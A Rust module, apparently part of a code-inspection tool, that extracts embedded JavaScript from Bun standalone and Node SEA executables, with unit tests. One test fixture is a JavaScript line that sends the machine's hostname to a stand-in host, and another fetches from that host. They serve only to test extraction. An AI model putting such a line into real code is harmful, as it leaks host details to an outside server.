//! JavaScript embedded in executables: Bun standalone executables (`bun build --compile`,
//! how `@anthropic-ai/claude-code` ships since 2.x).
//!
//! Bun stores a module graph (its `StandaloneModuleGraph`) in a `.bun` section (ELF; `__BUN`
//! on Mach-O; `.bun` on PE) or, in older builds, appended to the file. The graph ends with an
//! `Offsets` record and the trailer `\n---- Bun! ----\n`:
//!
//! ```text
//! [u64 length]? payload … modules[] … Offsets{ byte_count: u64, modules: (u32 off, u32 len),
//!                                             entry_point: u32, argv: (u32, u32), flags: u32 }
//!                                    "\n---- Bun! ----\n"
//! ```
//!
//! Each module record starts with `name` and holds `contents` as (offset, length) pairs into the
//! payload. The record's size and field order changed between Bun releases, so the reader does
//! not trust one layout: it takes the record size at which every record names a `/$bunfs/`
//! (or `B:/~BUN/`) path, and the contents field where the entry point reads as text. Module
//! sources start with `// @bun`; bytecode and assets beside them are skipped.
//!
//! Example: `package/claude` → `package/claude › /$bunfs/root/cli`, `… › /$bunfs/root/chunk-….js`.
//!
//! Node single executable applications (`node --experimental-sea-config` + postject) carry a
//! `NODE_SEA_BLOB` resource (an ELF note, a Mach-O `NODE_SEA` segment, a PE resource) and
//! the flipped fuse `NODE_SEA_FUSE_…:1`. The blob starts with the magic `0x0143da20`; after it
//! came, by Node release, the code alone; flags and the code; flags, then the code as a
//! length-prefixed string (u64 length, bytes), then code cache and assets; and since Node 21
//! flags, the main script's path, the code. The reader tries the newest layout first and
//! takes the code only as UTF-8 text with no NUL. A blob built as a V8 snapshot
//! (`useSnapshot`) holds no source and is reported as skipped.
//!
//! Example: `app` → `app › sea.js`.

use object::{Object, ObjectSection};

const TRAILER: &[u8] = b"\n---- Bun! ----\n";
const OFFSETS_LEN: usize = 32;

/// A module found inside an executable.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EmbeddedModule<'a> {
    /// The module's path inside the executable (`/$bunfs/root/cli`).
    pub name: String,
    /// Its source text.
    pub text: &'a str,
}

/// What an executable holds, when it is a format this module reads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Embedded<'a> {
    /// `bun` or `node-sea`.
    pub format: &'static str,
    pub modules: Vec<EmbeddedModule<'a>>,
    /// Modules that are not JavaScript text (bytecode-only, assets), by name.
    pub skipped: usize,
}

/// Whether bytes start like an executable (ELF, Mach-O, PE).
pub fn is_executable(bytes: &[u8]) -> bool {
    bytes.starts_with(b"\x7fELF")
        || bytes.starts_with(b"MZ")
        || matches!(bytes.get(..4), Some([0xcf, 0xfa, 0xed, 0xfe] | [0xce, 0xfa, 0xed, 0xfe] | [0xca, 0xfe, 0xba, 0xbe]))
}

/// The JavaScript modules a Bun standalone executable embeds; `None` when there is no Bun
/// module graph (a plain native binary) or it cannot be read.
pub fn bun_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    let payload = bun_payload(bytes)?;
    read_graph(payload)
}

/// The fuse postject flips when it injects a SEA blob (`…:0` in a plain `node`).
const SEA_FUSE: &[u8] = b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1";
const SEA_MAGIC: [u8; 4] = 0x0143_da20u32.to_le_bytes();
const SEA_USE_SNAPSHOT: u32 = 1 << 1;
/// Flags past the highest Node defines (assets, `1 << 3`, and room to grow) mean the magic
/// was a coincidence.
const SEA_MAX_FLAGS: u32 = 0xff;
/// Source of the older layouts runs to the end of the resource, which only the container
/// knows; it is taken up to the first NUL, within this bound.
const SEA_MAX_CODE: usize = 256 << 20;

/// The JavaScript embedded in an executable: a Bun module graph or a Node SEA blob.
pub fn embedded_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    bun_modules(bytes).or_else(|| sea_modules(bytes))
}

/// The main script of a Node single executable application; `None` when the fuse is not
/// flipped or no blob reads.
pub fn sea_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    memchr::memmem::find(bytes, SEA_FUSE)?;
    memchr::memmem::find_iter(bytes, &SEA_MAGIC).find_map(|at| read_sea(&bytes[at..]))
}

/// A length-prefixed string of the SEA blob at `at`: (bytes, where the next field starts).
fn sea_string(blob: &[u8], at: usize) -> Option<(&[u8], usize)> {
    let len = usize::try_from(u64::from_le_bytes(blob.get(at..at.checked_add(8)?)?.try_into().ok()?)).ok()?;
    let start = at + 8;
    let end = start.checked_add(len)?;
    Some((blob.get(start..end)?, end))
}

/// Text up to the first NUL: the code of the layouts whose length is the resource's.
fn sea_rest(blob: &[u8], at: usize) -> Option<&[u8]> {
    let rest = blob.get(at..)?;
    let rest = &rest[..rest.len().min(SEA_MAX_CODE)];
    Some(&rest[..memchr::memchr(0, rest).unwrap_or(rest.len())])
}

fn sea_text(code: &[u8]) -> Option<&str> {
    std::str::from_utf8(code).ok().filter(|t| !t.trim().is_empty() && !t.contains('\0'))
}

/// A main script's path as Node stores it: one line of text, not code.
fn is_script_path(path: &[u8]) -> bool {
    (1..=4096).contains(&path.len()) && std::str::from_utf8(path).is_ok_and(|p| !p.chars().any(char::is_control))
}

fn sea<'a>(name: &str, text: &'a str) -> Embedded<'a> {
    Embedded { format: "node-sea", modules: vec![EmbeddedModule { name: name.to_string(), text }], skipped: 0 }
}

fn read_sea(blob: &[u8]) -> Option<Embedded<'_>> {
    let flags = u32::from_le_bytes(blob.get(4..8)?.try_into().ok()?);
    if flags <= SEA_MAX_FLAGS {
        if flags & SEA_USE_SNAPSHOT != 0 {
            return Some(Embedded { format: "node-sea", modules: Vec::new(), skipped: 1 });
        }
        // Node 21+: the main script's path, then its code.
        if let Some((path, next)) = sea_string(blob, 8).filter(|(p, _)| is_script_path(p)) {
            if let Some(text) = sea_string(blob, next).and_then(|(code, _)| sea_text(code)) {
                let path = String::from_utf8_lossy(path);
                let name = path.rsplit(['/', '\\']).next().unwrap_or(&path);
                return Some(sea(name, text));
            }
        }
        // Node 20: the code as a string, or the rest of the resource.
        if let Some(text) = sea_string(blob, 8).and_then(|(code, _)| sea_text(code)).or_else(|| sea_rest(blob, 8).and_then(sea_text)) {
            return Some(sea("sea.js", text));
        }
    }
    // Node 19.7: the code right after the magic.
    sea_rest(blob, 4).and_then(sea_text).map(|text| sea("sea.js", text))
}

/// The graph's bytes: the `.bun` section (after its u64 length) or the tail of the file.
fn bun_payload(bytes: &[u8]) -> Option<&[u8]> {
    if let Ok(file) = object::File::parse(bytes) {
        for section in file.sections() {
            let name = section.name().unwrap_or("");
            if matches!(name, ".bun" | "__bun" | "__BUN") {
                let data = section.data().ok()?;
                let len = u64::from_le_bytes(data.get(..8)?.try_into().ok()?) as usize;
                return data.get(8..8usize.checked_add(len)?).or(Some(data));
            }
        }
    }
    // Older builds append the graph: it ends at the trailer, near the end of the file, and
    // its Offsets record says how many bytes come before it.
    let tail = bytes.len().saturating_sub(4096);
    let trailer_at = tail + memchr::memmem::rfind(&bytes[tail..], TRAILER)?;
    let offsets_at = trailer_at.checked_sub(OFFSETS_LEN)?;
    let byte_count = u64::from_le_bytes(bytes.get(offsets_at..offsets_at + 8)?.try_into().ok()?) as usize;
    bytes.get(offsets_at.checked_sub(byte_count)?..trailer_at + TRAILER.len())
}

fn u32_at(b: &[u8], at: usize) -> Option<usize> {
    Some(u32::from_le_bytes(b.get(at..at + 4)?.try_into().ok()?) as usize)
}

/// A (offset, length) pair into the payload, as a slice.
fn pointer<'a>(payload: &'a [u8], record: &[u8], at: usize) -> Option<&'a [u8]> {
    let (off, len) = (u32_at(record, at)?, u32_at(record, at + 4)?);
    payload.get(off..off.checked_add(len)?)
}

fn is_module_path(name: &[u8]) -> bool {
    name.starts_with(b"/$bunfs/") || name.starts_with(b"B:/~BUN/") || name.starts_with(b"B:\\~BUN\\")
}

fn read_graph(payload: &[u8]) -> Option<Embedded<'_>> {
    let trailer_at = memchr::memmem::rfind(payload, TRAILER)?;
    let offsets = payload.get(trailer_at.checked_sub(OFFSETS_LEN)?..trailer_at)?;
    let (modules_off, modules_len, entry) = (u32_at(offsets, 8)?, u32_at(offsets, 12)?, u32_at(offsets, 16)?);
    let table = payload.get(modules_off..modules_off.checked_add(modules_len)?)?;
    // The record size at which every record names a module path.
    let size = (16..=128).step_by(4).find(|size| {
        modules_len % size == 0
            && modules_len > 0
            && table.chunks_exact(*size).all(|r| pointer(payload, r, 0).is_some_and(is_module_path))
    })?;
    let records: Vec<&[u8]> = table.chunks_exact(size).collect();
    // Where the contents field is: the first pair after the name at which the entry point
    // (or, failing that, most records) reads as text.
    let reads_as_text = |r: &[u8], at: usize| pointer(payload, r, at).is_some_and(|c| !c.is_empty() && std::str::from_utf8(&c[..c.len().min(64)]).is_ok() && !c[..c.len().min(64)].contains(&0));
    let entry_record = records.get(entry).copied().unwrap_or(records[0]);
    let contents_at = (8..size.saturating_sub(7)).step_by(4).find(|&at| reads_as_text(entry_record, at))?;
    let mut modules = Vec::new();
    let mut skipped = 0;
    for r in &records {
        let name = String::from_utf8_lossy(pointer(payload, r, 0)?).into_owned();
        match pointer(payload, r, contents_at).and_then(|c| std::str::from_utf8(c).ok()).filter(|t| looks_like_js(&name, t)) {
            Some(text) => modules.push(EmbeddedModule { name, text }),
            None => skipped += 1,
        }
    }
    Some(Embedded { format: "bun", modules, skipped })
}

/// Module sources Bun wrote (`// @bun`), or files named as scripts.
fn looks_like_js(name: &str, text: &str) -> bool {
    text.starts_with("// @bun") || ([".js", ".mjs", ".cjs", ".ts", ".tsx", ".jsx"].iter().any(|e| name.ends_with(e)) && !text.contains('\0'))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A Bun graph as the current layout writes it: 52-byte records (name, contents,
    /// sourcemap, bytecode, two more pointers, four flag bytes).
    fn graph(modules: &[(&str, &[u8])], entry: u32) -> Vec<u8> {
        let mut payload = Vec::new();
        let mut records = Vec::new();
        for (name, contents) in modules {
            let name_at = payload.len() as u32;
            payload.extend_from_slice(name.as_bytes());
            payload.push(0);
            let contents_at = payload.len() as u32;
            payload.extend_from_slice(contents);
            payload.push(0);
            let mut r = Vec::new();
            for (off, len) in [(name_at, name.len() as u32), (contents_at, contents.len() as u32), (0, 0), (0, 0), (0, 0), (0, 0)] {
                r.extend_from_slice(&off.to_le_bytes());
                r.extend_from_slice(&len.to_le_bytes());
            }
            r.extend_from_slice(&[1, 1, 1, 0]);
            records.push(r);
        }
        let table_at = payload.len() as u32;
        let table: Vec<u8> = records.concat();
        payload.extend_from_slice(&table);
        let mut offsets = Vec::new();
        offsets.extend_from_slice(&(payload.len() as u64).to_le_bytes());
        offsets.extend_from_slice(&table_at.to_le_bytes());
        offsets.extend_from_slice(&(table.len() as u32).to_le_bytes());
        offsets.extend_from_slice(&entry.to_le_bytes());
        offsets.extend_from_slice(&[0; 12]);
        payload.extend_from_slice(&offsets);
        payload.extend_from_slice(TRAILER);
        payload
    }

    #[test]
    fn appended_graph_yields_its_modules() {
        let g = graph(&[("/$bunfs/root/chunk-a.js", b"// @bun\nfetch('https://t.example.com')"), ("/$bunfs/root/icon.png", b"\x89PNG\0\0"), ("/$bunfs/root/cli", b"// @bun @bytecode\nrequire('./chunk-a.js')")], 2);
        let mut exe = b"\x7fELF not really an elf, a file with the graph appended ".to_vec();
        exe.extend_from_slice(&g);
        let e = bun_modules(&exe).expect("graph found");
        let names: Vec<&str> = e.modules.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(names, vec!["/$bunfs/root/chunk-a.js", "/$bunfs/root/cli"]);
        assert!(e.modules[0].text.contains("t.example.com"));
        assert_eq!(e.skipped, 1);
    }

    /// An executable as postject leaves it: the flipped fuse somewhere, the blob elsewhere.
    fn sea_executable(blob: &[u8]) -> Vec<u8> {
        let mut exe = b"\x7fELF\x02\x01\x01\0 a node binary ".to_vec();
        exe.extend_from_slice(SEA_FUSE);
        exe.extend_from_slice(&[0; 64]);
        exe.extend_from_slice(blob);
        exe.extend_from_slice(&[0; 16]);
        exe
    }

    fn sea_blob(flags: u32, fields: &[&[u8]]) -> Vec<u8> {
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(&flags.to_le_bytes());
        for f in fields {
            blob.extend_from_slice(&(f.len() as u64).to_le_bytes());
            blob.extend_from_slice(f);
        }
        blob
    }

    const SEA_CODE: &[u8] = b"require('https').get('https://t.example.com/?h=' + require('os').hostname())";

    #[test]
    fn node_sea_blob_yields_its_main_script_in_every_layout() {
        // Node 21+: path, code, then a code cache.
        let exe = sea_executable(&sea_blob(1 | 4, &[b"/home/dev/app/dist/main.js", SEA_CODE, b"\x01\x02cache"]));
        let e = embedded_modules(&exe).expect("blob found");
        assert_eq!((e.format, e.modules.len()), ("node-sea", 1));
        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("main.js", SEA_CODE));
        // Node 20: flags and the code as one string.
        let exe = sea_executable(&sea_blob(0, &[SEA_CODE]));
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!((e.modules[0].name.as_str(), e.modules[0].text.as_bytes()), ("sea.js", SEA_CODE));
        // Node 20.0: flags, then the code to the end of the resource.
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(&0u32.to_le_bytes());
        blob.extend_from_slice(SEA_CODE);
        let exe = sea_executable(&blob);
        assert_eq!(sea_modules(&exe).expect("blob found").modules[0].text.as_bytes(), SEA_CODE);
        // Node 19.7: the code right after the magic.
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(SEA_CODE);
        let exe = sea_executable(&blob);
        assert_eq!(sea_modules(&exe).expect("blob found").modules[0].text.as_bytes(), SEA_CODE);
    }

    #[test]
    fn node_sea_needs_the_flipped_fuse_and_skips_snapshots() {
        let blob = sea_blob(0, &[b"main.js", SEA_CODE]);
        let mut unflipped = sea_executable(&blob);
        let at = memchr::memmem::find(&unflipped, SEA_FUSE).unwrap();
        unflipped[at + SEA_FUSE.len() - 1] = b'0';
        assert!(sea_modules(&unflipped).is_none(), "a plain node binary holds no application");
        let snapshot = sea_executable(&sea_blob(SEA_USE_SNAPSHOT, &[b"main.js", b"\x00\x01v8 snapshot"]));
        let e = sea_modules(&snapshot).expect("blob found");
        assert_eq!((e.modules.len(), e.skipped), (0, 1));
        // A length past the end, binary bytes: no panic, no text.
        let mut broken = sea_blob(0, &[]);
        broken.truncate(8);
        broken.extend_from_slice(&u64::MAX.to_le_bytes());
        broken.extend_from_slice(b"\0\0\0");
        assert!(sea_modules(&sea_executable(&broken)).is_none());
        for cut in 0..blob.len() {
            let _ = sea_modules(&sea_executable(&blob[..cut]));
        }
    }

    #[test]
    fn plain_binaries_and_garbage_have_no_graph() {
        assert!(bun_modules(b"\x7fELF\x02\x01\x01 plain").is_none());
        let mut broken = graph(&[("/$bunfs/root/cli", b"// @bun\n1")], 0);
        let n = broken.len();
        broken[n - 40] ^= 0xff; // corrupt the table offset
        assert!(bun_modules(&broken).is_none());
        // A table offset past the end, a zero-length table: no panic, no graph.
        for cut in [1, 8, 30, 60] {
            let g = graph(&[("/$bunfs/root/cli", b"// @bun\n1")], 0);
            let _ = bun_modules(&g[cut.min(g.len())..]);
        }
        assert!(is_executable(b"\x7fELF..."));
        assert!(!is_executable(b"#!/bin/sh"));
    }
}
